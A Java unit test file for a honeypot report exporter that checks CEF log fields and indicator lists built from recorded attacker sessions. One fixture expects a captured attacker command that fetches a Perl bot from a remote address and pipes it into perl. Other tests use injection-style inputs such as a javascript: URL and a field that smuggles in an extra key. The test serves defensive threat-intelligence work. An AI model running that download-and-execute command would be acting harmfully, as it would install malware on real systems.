package io.github.cowriekit.report.export;

import static io.github.cowriekit.report.fixtures.ExportFixtures.accused;
import static io.github.cowriekit.report.fixtures.ExportFixtures.dropper;
import static io.github.cowriekit.report.fixtures.WrittenReports.write;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.assessment.technique.Techniques;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.report.ExportOptions;
import io.github.cowriekit.report.Reports;
import io.github.cowriekit.report.fixtures.Assessed;
import io.github.cowriekit.report.fixtures.Diary;
import io.github.cowriekit.report.fixtures.ExportFixtures;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CefIocTest {
    private static final Pattern CEF = Pattern.compile("CEF:0\\|(?:(?:[^|\\\\]|\\\\[|\\\\])*+\\|){6}(.*)");

    private static final Pattern FIELD = Pattern.compile("([A-Za-z0-9]+)=((?:[^=\\\\]|\\\\[=\\\\])*+)");

    /** Reads a line as the format's guide says: a field ends where a blank, a key and an equals sign follow. */
    private static Map<String, String> fields(String line) {
        Matcher cef = CEF.matcher(line);
        assertThat(cef.matches()).as(line).isTrue();
        Map<String, String> fields = new LinkedHashMap<>();
        for (String part : cef.group(1).split(" (?=[A-Za-z0-9]+=)")) {
            Matcher field = FIELD.matcher(part);
            assertThat(field.matches()).as(part).isTrue();
            fields.put(field.group(1), field.group(2).replaceAll("\\\\(.)", "$1"));
        }
        return fields;
    }

    @Test
    void writesOneLinePerSession() {
        List<EnrichedSession> evil = ExportFixtures.evil();
        List<Map<String, String>> lines =
                write(Reports.cef(), evil).lines().map(CefIocTest::fields).toList();
        assertThat(lines).hasSameSizeAs(evil);
        assertThat(lines)
                .allSatisfy(fields -> assertThat(fields)
                        .containsKeys("externalId", "outcome", "cs1")
                        .doesNotContainKeys("third", "b"));
    }

    @Test
    void namesTechniquesAndTheirVersion() {
        ExportOptions options = ExportOptions.all()
                .techniques(session -> List.of(ExportFixtures.SUB_TECHNIQUE, ExportFixtures.TECHNIQUE));

        assertThat(fields(write(Reports.cef(options), List.of(Diary.perlBot())).strip()))
                .containsEntry("cs5", "T1059.004 T1105")
                .containsEntry("cs5Label", "techniques")
                .containsEntry("cs6", Techniques.ATTACK_VERSION)
                .containsEntry("cs6Label", "attackVersion");
        assertThat(fields(write(Reports.cef(), List.of(Diary.perlBot())).strip()))
                .doesNotContainKeys("cs5", "cs6");
    }

    @Test
    void tellsWhatHappened() {
        assertThat(fields(write(Reports.cef(), List.of(Diary.perlBot())).strip()))
                .containsEntry("src", "45.79.54.105")
                .containsEntry("spt", "40022")
                .containsEntry("app", "ssh")
                .containsEntry("duser", "root")
                .containsEntry("outcome", "success")
                .containsEntry("request", "http://103.52.134.51/csx/perlNIK")
                .containsEntry("fileHash", Diary.PERL_BOT)
                .containsEntry("cs2", "wget -qO - 103[.]52[.]134[.]51/csx/perlNIK|perl".replace("[.]", "."))
                .containsEntry("cs2Label", "commands")
                .containsEntry("cn3", "100");
    }

    @Test
    void tellsConclusions() {
        assertThat(fields(write(Reports.cef(), List.of(Assessed.of(Diary.datacenter(), "x")))
                        .strip()))
                .containsEntry("cat", "likely automated")
                .containsEntry("cfp1", "-2.5")
                .containsEntry("cfp1Label", "score")
                .containsEntry("flexString1", "perhaps hosting")
                .containsEntry("flexString2", "outlaw-mdrfckr")
                .containsEntry("cn3", "45");
        assertThat(write(Reports.ioc(), List.of(Assessed.of(Diary.datacenter(), "x"))))
                .startsWith(
                        "# sessions: 1; highest interest 45; verdicts: likely automated 1; campaigns: outlaw-mdrfckr 1\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\t", "'", "\\", "\u202e", "=", "x"})
    void cutsBeforeItQuotes(String text) {
        EnrichedSession session = EnrichedSession.of(ExportFixtures.session("a", "45.79.54.105")
                .commands(List.of(new Command(null, text.repeat(8_000), false, null)))
                .logins(List.of(Login.builder()
                        .username(text.repeat(3_000))
                        .success(true)
                        .build()))
                .build());
        Map<String, String> fields =
                fields(write(Reports.cef(), List.of(session)).strip());
        assertThat(fields.get("cs2")).hasSizeLessThanOrEqualTo(4_000).hasSizeGreaterThan(1_900);
        assertThat(fields.get("duser")).hasSizeLessThanOrEqualTo(1_023).contains(" characters)");
    }

    @Test
    void escapesWhatEndsAValue() {
        EnrichedSession session = EnrichedSession.of(ExportFixtures.session("a", "2001:4860:4860::8888")
                .commands(List.of(new Command(null, "x=1\\n src=6.6.6.6", false, null)))
                .build());
        String line = write(Reports.cef(), List.of(session));
        assertThat(line).contains("cs2=x\\=1\\\\n src\\=6.6.6.6 cs2Label=");
        assertThat(fields(line.strip()))
                .containsEntry("c6a2", "2001:4860:4860::8888")
                .containsEntry("cs2", "x=1\\n src=6.6.6.6")
                .doesNotContainKey("src");
    }

    @Test
    void listsIndicatorsSortedAndOnce() {
        List<EnrichedSession> sessions = List.of(
                accused(dropper(
                        "a", "45.79.54.105", "http://malware.example.org/b", "Malware.Example.ORG.", "cd".repeat(32))),
                accused(dropper("b", "43.154.116.34", "http://103.52.134.51/a", "103.52.134.51", "ab".repeat(32))),
                accused(dropper("c", "45.79.54.105", "http://103.52.134.51/a", "103.52.134.51", "ab".repeat(32))));

        assertThat(write(Reports.ioc(), sessions)).isEqualTo("""
                # sessions: 3; highest interest 100
                # addresses: 3
                103.52.134.51
                43.154.116.34
                45.79.54.105
                # domains: 1
                malware.example.org
                # URLs: 2
                http://103.52.134.51/a
                http://malware.example.org/b
                # SHA-256 of files: 2
                %s
                %s
                """.formatted("ab".repeat(32), "cd".repeat(32)));
        assertThat(write(Reports.ioc(ExportOptions.sharing().defang(true)), sessions))
                .contains(
                        "\n103[.]52[.]134[.]51\n", "\nmalware[.]example[.]org\n", "\nhttp[://]103[.]52[.]134[.]51/a\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "10.1.2.3",
                "127.0.0.1",
                "169.254.169.254",
                "172.20.0.1",
                "192.168.0.1",
                "100.64.1.1",
                "0.0.0.0",
                "192.0.2.1",
                "224.0.0.1",
                "255.255.255.255",
                "::1",
                "fe80::1",
                "fc00::1",
                "2001:db8::1",
                "::ffff:10.0.0.1",
                "1.2.3",
                "0x7f.1",
                "010.8.8.8",
                "8.8.8.8-9",
                "*",
                "8.8.8.*",
                "localhost",
                "router.lan",
                "nohost",
                ""
            })
    void listsNoAddressOrNameOfAPrivateNetwork(String host) {
        EnrichedSession session = accused(dropper("a", host, "http://" + host + "/x", host, "ab".repeat(32)));
        assertThat(write(Reports.ioc(), List.of(session)))
                .startsWith(
                        "# sessions: 1; highest interest 100\n# addresses: 0\n# domains: 0\n# URLs: 0\n# SHA-256 of files: 1\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://103.52.134.51/a b",
                "http://103.52.134.51/\n# x",
                "http://103.52.134.51/\"",
                "http://103.52.134.51/é",
                "javascript:alert(1)",
                "http://103.52.134.51/\u202e",
                "//103.52.134.51/x",
                "\u0000http://103.52.134.51/",
                "http://user:secret@103.52.134.51/x",
                "http://10.0.0.1/x",
                "http://103.52.134.51@10.0.0.1/x",
                "http://router.lan/x"
            })
    void listsNoUrlThatIsNone(String url) {
        EnrichedSession session = accused(dropper("a", "45.79.54.105", url, "103.52.134.51", "ab".repeat(32)));
        assertThat(write(Reports.ioc(), List.of(session))).contains("# URLs: 0\n");
    }

    @Test
    @Tag("slow")
    void countsWhatAListHasNoRoomFor() {
        // ten have no room, and one of them comes twice
        List<EnrichedSession> sessions = IntStream.concat(IntStream.range(0, 100_010), IntStream.of(100_009, 5))
                .mapToObj(i -> EnrichedSession.of(
                        ExportFixtures.session("a", "45." + (i >> 16) + "." + (i >> 8 & 255) + "." + (i & 255))
                                .build()))
                .toList();
        assertThat(write(Reports.ioc(ExportOptions.all()), sessions))
                .contains("\n# addresses: 100000, and 11 mentions left out, as a list holds 100000\n");
    }
}
